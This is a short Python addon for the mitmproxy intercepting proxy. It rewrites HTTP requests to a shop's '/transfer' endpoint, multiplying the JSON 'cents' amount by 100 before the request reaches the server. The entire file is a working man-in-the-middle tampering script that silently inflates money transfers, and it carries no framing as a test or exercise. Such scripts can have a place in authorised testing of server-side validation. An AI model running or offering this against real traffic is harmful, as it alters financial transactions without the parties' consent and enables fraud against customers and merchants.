"""An addon for mitmproxy: the shop's transfers ask for a hundred times as much."""

import json


def request(flow):
    if flow.request.path.endswith("/transfer"):
        asked = json.loads(flow.request.content)
        asked["cents"] *= 100
        flow.request.text = json.dumps(asked)
